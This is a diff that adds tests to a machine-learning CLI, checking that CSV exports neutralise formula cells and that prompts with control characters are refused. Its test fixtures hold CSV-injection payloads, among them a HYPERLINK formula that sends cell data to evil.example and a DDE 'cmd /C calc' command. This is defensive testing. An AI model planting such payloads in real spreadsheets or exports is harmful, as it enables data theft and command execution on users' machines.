@@ -9,6 +9,7 @@ docs/RELIABILITY.md ("Second hostile pass (issue 18): cache tool, CLI bounds, ou
 from __future__ import annotations
 
 import os
+import re
 import shutil
 from pathlib import Path
 
@@ -198,3 +199,60 @@ def test_multi_pass_command_says_its_cost_before_starting(tiny_ds, tmp_path, cap
                        "--blocks", "mid_block", "--out", tmp_path / "o", "--no-progress")
     assert rc == 0 and "cka: 2 timestep(s) = 2 model pass(es) over every image" in err
     assert (tmp_path / "o" / "cka.csv").exists()
+
+
+# ---------------------------------------------------------------------------------------- outputs
+
+EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-2+3"]
+
+
+def _raw_cells(path: Path) -> list[str]:
+    import csv
+
+    with open(path, newline="") as f:
+        return [c for row in csv.reader(f) for c in row]
+
+
+def test_csv_exports_neutralise_formula_cells_from_a_manifest(tmp_path, capsys):
+    from test_datasets import img, write_csv
+
+    base = tmp_path / "evil"
+    rows = []
+    for k, (dom, cls) in enumerate([(EVIL[0], EVIL[1]), (EVIL[0], EVIL[2]), (EVIL[3], EVIL[1]), (EVIL[3], EVIL[2])]
+                                   * 2):
+        img(base / f"i{k}.png", color=(k * 30, 255 - k * 30, k * 7))
+        rows.append([f"i{k}.png", '"' + dom.replace('"', '""') + '"',
+                     '"' + cls.replace('"', '""') + '"'])
+    csv_path = write_csv(base / "m.csv", rows)
+    out = tmp_path / "out"
+    rc, _, err = cli(capsys, "faithfulness", "--dataset", csv_path, "--model", "pixels", "--k", "2",
+                     "--out", out, "--no-progress")
+    assert rc == 0, err
+    cells = _raw_cells(out / "layout.csv")
+    assert set(EVIL[:4]) & {c.lstrip("'") for c in cells} == set(EVIL[:4])  # the names are all there, readable
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")]  # ... but none starts a formula
+    assert "'" + EVIL[0] in cells
+    # numbers stay numbers; the app's download goes through the same helper
+    import pandas as pd
+
+    from pages._exports import csv_text
+
+    df = pd.DataFrame({"domain": EVIL, "x": [-0.5, 1.0, -2.0, 3.0, 4.0], EVIL[4]: [1, 2, 3, 4, 5]})
+    text = csv_text(df)
+    assert not [ln for ln in text.splitlines() if ln[:1] in "=+-@"] and "\n'-2+3," in text and ",-0.5," in text
+    assert text.splitlines()[0] == "domain,x,'-2+3"
+
+
+@pytest.mark.parametrize("prompt, code", [("a photo\x1b[2J\x1b[H", "U+001B"), ("two\nlines", "U+000A"),
+                                          ("nul\x00", "U+0000"), ("abc\u202edcba", "U+202E"), ("c1\x9b", "U+009B")])
+def test_control_characters_in_a_prompt_are_refused_with_the_position(tmp_path, capsys, prompt, code):
+    from core.engine.prompts import ExtractionError, PromptSpec
+
+    with pytest.raises(ExtractionError, match=re.escape(code) + ".*remove it"):
+        PromptSpec.parse(prompt)
+    with pytest.raises(ExtractionError, match=re.escape(code)):
+        PromptSpec.parse(None, prompt + " {class}")
+    rc, out, err = cli(capsys, "extract", "--model", "pixels", "--dataset", tmp_path / "none", "--prompt", prompt,
+                       "--no-progress")
+    assert rc == 2 and code in err and "\x1b" not in err + out
+    assert PromptSpec.parse(None, "a photo of a {class}, naïve café").mode == "template"  # plain unicode is fine
